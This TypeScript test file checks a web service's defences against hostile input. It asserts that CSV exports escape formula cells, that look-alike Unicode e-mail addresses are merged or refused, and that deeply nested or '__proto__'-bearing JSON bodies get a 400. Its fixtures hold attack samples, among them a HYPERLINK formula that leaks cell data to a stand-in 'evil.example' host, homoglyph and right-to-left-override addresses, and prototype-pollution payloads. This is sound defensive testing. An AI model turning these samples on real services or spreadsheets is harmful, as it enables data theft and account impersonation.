/**
 * Inputs turned against the service or the people who read its output, over real HTTP (issue 25):
 * CSV cells a spreadsheet would run as formulas (the panel answers' export), look-alike e-mail
 * addresses at sign-up, log-in and account creation, and JSON bodies nested past the one limit or
 * holding prototype keys, on the API, /mcp, the dashboard and the webhook.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvWriter } from '../../src/http/csv.ts';
import { MAX_JSON_DEPTH } from '../../src/kernel/json-text.ts';
import { sampleInterview, teamsVtt, type Turn } from '../../testkit/fixtures.ts';
import { rawRequest } from '../../testkit/http.ts';
import { blobOf, waitFor, type TestSdk } from '../../testkit/sdk.ts';
import { startService, type Service } from '../../testkit/service.ts';
import { WebClient } from '../support/web.ts';

let srv: Service;
let sdk: TestSdk;

before(async () => {
  srv = await startService({ LOGIN_RATE_LIMIT: '1000' });
  sdk = srv.sdk();
});
after(() => srv?.close());

/** The error body's code and message of a raw answer. */
const errorOf = (text: string) => JSON.parse(text) as { error: string; code: string; message: string; details?: Record<string, unknown>; requestId?: string };

describe('CSV formula injection: the panel answers export', () => {
  const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Sam")';
  let rows: Array<Record<string, string>>;
  let csv: string;

  before(async () => {
    // The person's own words begin with formula characters too; a mind named like a formula.
    const turns: Turn[] = sampleInterview().map((t, i) => (i % 2 === 1 ? { ...t, text: `${['=', '+', '-', '@'][(i >> 1) % 4]}${t.text}` } : t));
    const { mind } = await sdk.minds.create({ name: NAME });
    const r = await sdk.snapshots.create(mind.id, { file: blobOf(teamsVtt(turns)), fileName: 'interview.vtt' });
    assert.equal((await waitFor(sdk, mind.id, r.mindAssessmentId)).status, 'completed');
    const { panel } = await sdk.panels.create({
      questions: [
        { id: '-where', text: '=HYPERLINK("http://evil.example","Do you prefer working remotely or in an office?")', type: 'single', options: ['@Remote, from home', '-In an office'] },
        { id: 'coffee', text: '+How many cups of coffee do you drink a day?', type: 'number', scale: { min: -20, max: 20 } },
        { id: 'remote', text: '-How much do you enjoy working from home?', type: 'likert', scale: { min: -2, max: 2 } },
        { id: 'burnout', text: '@SUM(1,1) How do you deal with burnout?', type: 'open' },
      ],
      mindIds: [mind.id],
    });
    await sdk.panels.wait(panel.id, { intervalMs: 20, maxIntervalMs: 100, timeoutMs: 30_000 });
    csv = await sdk.panels.answersCsv(panel.id);
    rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    assert.equal(rows.length, 4);
  });

  it('prefixes every text cell that begins with = + - @ with a quote, so a spreadsheet shows it as text', () => {
    for (const row of rows) {
      assert.equal(row.mind_name, `'${NAME}`);
      for (const [column, value] of Object.entries(row)) {
        if (column === 'value' || column === 'confidence') continue;
        assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} begins with a formula character: ${value}`);
      }
    }
    const by = (id: string) => rows.find((r) => r.question_id === id || r.question_id === `'${id}`) as Record<string, string>;
    assert.equal(by('-where').question_id, "'-where");
    assert.equal(by('-where').question, `'=HYPERLINK("http://evil.example","Do you prefer working remotely or in an office?")`);
    assert.equal(by('coffee').question, "'+How many cups of coffee do you drink a day?");
    assert.equal(by('burnout').question, "'@SUM(1,1) How do you deal with burnout?");
    if (by('-where').status === 'answered') assert.match(by('-where').choices ?? '', /^'[@-]/);
    // The answers quote the person's words, each of which begins with one of the four here.
    assert.ok(rows.some((r) => /^'[=+\-@]/.test(r.saying ?? '')), `no saying quoted the person's words: ${JSON.stringify(rows.map((r) => r.saying))}`);
  });

  it('quotes every text cell (quotes doubled) and leaves numbers bare, a negative one included', () => {
    assert.match(csv, /^"mind_id","mind_name",/);
    const nameCell = `,"'${NAME.replaceAll('"', '""')}",`;
    assert.equal(csv.split(nameCell).length - 1, rows.length, 'the name is one quoted cell with its quotes doubled, on every row');
    for (const row of rows) {
      assert.match(row.confidence ?? '', /^\d+(\.\d+)?$/);
      assert.match(row.value ?? '', /^(-?\d+(\.\d+)?)?$/, `a value is written as a number: ${row.value}`);
    }
    // A negative number is written bare (no quote, no prefix): a spreadsheet reads it as a number.
    const negative = csvWriter(['a', 'b']);
    let out = '';
    negative.on('data', (d: Buffer) => (out += d.toString()));
    negative.end([-2, '-2']);
    return new Promise<void>((resolve) =>
      negative.on('end', () => {
        assert.equal(out, `"a","b"\n-2,"'-2"\n`);
        resolve();
      }),
    );
  });

  it('neutralises a cell beginning with a tab or a carriage return too (text that fields trim cannot carry, written by the same writer)', async () => {
    const w = csvWriter(['x']);
    let out = '';
    w.on('data', (d: Buffer) => (out += d.toString()));
    const done = new Promise((r) => w.on('end', r));
    w.write(['\tcmd']);
    w.end(['\r=1+1']);
    await done;
    assert.deepEqual(parse(out, { columns: true }), [{ x: "'\tcmd" }, { x: "'\r=1+1" }]);
  });
});

describe('look-alike e-mail addresses', () => {
  const PASSWORD = 'a long enough password';
  const REAL = 'lookalike@example.com';

  before(async () => {
    const web = new WebClient(srv.baseUrl);
    assert.equal((await web.signUp(REAL, PASSWORD)).status, 303);
  });

  const signUp = (email: string) => new WebClient(srv.baseUrl).signUp(email, 'another long password');
  const accounts = async () => (await srv.ctx.store.db.selectFrom('accounts').select('email').execute()).map((a) => a.email);

  it('an address with a zero-width character, a full-width letter or other case is the same account: sign-up says it is taken', async () => {
    for (const email of ['look\u200Balike@example.com', '\uFEFFlookalike@example.com', 'look\u2060alike@exam\u200Dple.com', 'ｌookalike@example.com', 'LookAlike@Example.COM ']) {
      const got = await signUp(email);
      assert.equal(got.status, 409, `${JSON.stringify(email)}: ${got.status}`);
      assert.match(got.text, /already exists/);
    }
    assert.equal((await accounts()).filter((e) => e.includes('alike')).length, 1);
  });

  it('refuses an address mixing Latin with Cyrillic or Greek letters with a 400 that names the letter', async () => {
    const cases: Array<[string, RegExp]> = [
      ['lookаlike@example.com', /mixes Latin and Cyrillic letters \(&quot;а&quot;, U\+0430, is Cyrillic\)/], // Cyrillic а in the local part
      ['а@example.com', /mixes Cyrillic and Latin letters/], // a Cyrillic local part at a Latin domain
      ['lookalike@exаmple.com', /Cyrillic/], // in the domain
      ['lookalike@example.cοm', /mixes Latin and Greek letters \(&quot;ο&quot;, U\+03BF, is Greek\)/],
    ];
    for (const [email, message] of cases) {
      const got = await signUp(email);
      assert.equal(got.status, 400, `${email}: ${got.status}`);
      assert.match(got.text, message);
    }
    assert.deepEqual((await accounts()).filter((e) => /[^ -~]/.test(e)), []);
  });

  it('accepts an address written in one script alone', async () => {
    assert.equal((await signUp('иван@почта.рф')).status, 303);
    assert.ok((await accounts()).includes('иван@почта.рф'));
  });

  it('refuses other invisible characters (a right-to-left override) instead of storing them', async () => {
    const got = await signUp('evil\u202Egnp.@example.com');
    assert.equal(got.status, 400);
    assert.match(got.text, /invisible or control character \(U\+202E\)/);
  });

  it('log-in finds the account whatever zero-width or full-width characters the address is typed with', async () => {
    for (const email of ['look\u200Balike@example.com', 'ＬＯＯＫＡＬＩＫＥ@example.com']) {
      const web = new WebClient(srv.baseUrl);
      const got = await web.logIn(email, PASSWORD);
      assert.equal(got.status, 303, `${JSON.stringify(email)}: ${got.status}`);
      assert.match((await web.get('/account')).text, new RegExp(REAL));
    }
  });

  it('the operator CLI’s create-account normalises and checks the same way', async () => {
    await assert.rejects(srv.admin.createAccount('lookalike\u200B@example.com', 'pro'), /already exists/);
    await assert.rejects(srv.admin.createAccount('admin@exаmple.com', 'pro'), /mixes Latin and Cyrillic/);
  });
});

describe('JSON bodies: one nesting limit, prototype keys named', () => {
  const json = () => ({ authorization: `Bearer ${srv.apiKey}`, 'content-type': 'application/json' });
  const deepArray = (d: number) => Buffer.from(`${'['.repeat(d)}${']'.repeat(d)}`);
  const deepObject = (d: number) => Buffer.from(`{"name":"x","scope":${'{"a":'.repeat(d)}1${'}'.repeat(d)}}`);

  // The code says the depth check answered (JSON.parse never ran on the body); how fast is not asserted. The timeout is
  // the deadline for a body never answered (the whole test takes well under a second).
  it(`refuses a body nested past ${MAX_JSON_DEPTH} levels with 400 JSON_TOO_DEEP, 150,000 levels included, on every JSON route`, { timeout: 60_000 }, async () => {
    const web = new WebClient(srv.baseUrl);
    await web.signUp('deep-json@example.com', 'a long enough password');
    const targets: Array<[string, string, Record<string, string>]> = [
      ['POST /minds', `${srv.api}/minds`, json()],
      ['POST /simulate', `${srv.api}/simulate`, json()],
      ['POST /panels (under /api/mindsim)', `${srv.baseUrl}/api/mindsim/panels`, json()],
      ['POST /mcp', `${srv.baseUrl}/mcp`, { ...json(), accept: 'application/json, text/event-stream' }],
      ['POST /minds (dashboard)', `${srv.baseUrl}/minds`, { cookie: web.cookieHeader(), 'content-type': 'application/json', accept: 'application/json' }],
    ];
    for (const [name, url, headers] of targets) {
      for (const body of [deepArray(150_000), deepObject(MAX_JSON_DEPTH), deepArray(MAX_JSON_DEPTH + 1)]) {
        const got = await rawRequest(url, 'POST', body, headers);
        assert.equal(got.status, 400, `${name}: ${got.status} ${got.text.slice(0, 200)}`);
        const e = errorOf(got.text);
        assert.deepEqual([e.error, e.code, e.details], ['Bad Request', 'JSON_TOO_DEEP', { maxDepth: MAX_JSON_DEPTH }], name);
        assert.match(e.message, /more than 100 levels deep/);
        assert.ok(e.requestId);
      }
    }
  });

  it('accepts JSON nested exactly to the limit (brackets inside strings do not count)', async () => {
    const nested = `${'['.repeat(MAX_JSON_DEPTH - 1)}"[[[[{{{{ \\" ]"${']'.repeat(MAX_JSON_DEPTH - 1)}`;
    const got = await rawRequest(`${srv.api}/minds`, 'POST', Buffer.from(`{"name":"At the limit","ignored":${nested}}`), json());
    assert.equal(got.status, 200, got.text.slice(0, 200));
  });

  it('the webhook takes the same limit, checked before parsing', async () => {
    const { username, password } = await srv.admin.createWebhookCredentials(srv.ownerAccountId);
    const auth = { authorization: `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`, 'content-type': 'application/json' };
    const deep = await rawRequest(`${srv.baseUrl}/webhook`, 'POST', deepArray(150_000), auth);
    assert.equal(deep.status, 400);
    assert.equal(errorOf(deep.text).code, 'JSON_TOO_DEEP');
    assert.equal((await rawRequest(`${srv.baseUrl}/webhook`, 'POST', deepArray(MAX_JSON_DEPTH), auth)).status, 200);
    // Any JSON is kept as sent there, a "__proto__" key included (stored as text, listed as data).
    assert.equal((await rawRequest(`${srv.baseUrl}/webhook`, 'POST', Buffer.from('{"__proto__":{"admin":true}}'), auth)).status, 200);
  });

  it('refuses a "__proto__" key, or a "constructor" holding "prototype", naming the key and where it is (not "not valid JSON")', async () => {
    const cases: Array<[string, string, string]> = [
      ['{"name":"x","__proto__":{"tier":"pro"}}', '__proto__', 'body.__proto__'],
      ['{"name":"x","socialMedia":{"\\u005f_proto__":{"a":1}}}', '__proto__', 'body.socialMedia.__proto__'],
      ['{"name":"x","tags":[{"constructor":{"prototype":{"a":1}}}]}', 'constructor', 'body.tags.0.constructor'],
    ];
    for (const [body, key, field] of cases) {
      const got = await rawRequest(`${srv.api}/minds`, 'POST', Buffer.from(body), json());
      assert.equal(got.status, 400, got.text);
      const e = errorOf(got.text);
      assert.equal(e.code, 'INVALID_JSON');
      assert.deepEqual(e.details, { field, refusedKey: key });
      assert.match(e.message, new RegExp(`holds a "${key}" key.*refused`));
      assert.doesNotMatch(e.message, /not valid JSON/);
    }
    // A key merely named "constructor" is data like any other; malformed JSON is still "not valid JSON".
    const plain = await rawRequest(`${srv.api}/minds`, 'POST', Buffer.from('{"name":"constructor","constructor":"x"}'), json());
    assert.equal(plain.status, 200, plain.text);
    const broken = await rawRequest(`${srv.api}/minds`, 'POST', Buffer.from('{"name":'), json());
    assert.deepEqual([broken.status, errorOf(broken.text).code, errorOf(broken.text).message], [400, 'INVALID_JSON', 'The request body is not valid JSON.']);
    const empty = await rawRequest(`${srv.api}/minds`, 'POST', Buffer.alloc(0), json());
    assert.deepEqual([empty.status, errorOf(empty.text).code], [400, 'INVALID_JSON']);
    const bom = await rawRequest(`${srv.api}/minds`, 'POST', Buffer.from('\uFEFF{"name":"With a BOM"}'), json());
    assert.equal(bom.status, 200, bom.text);
  });
});
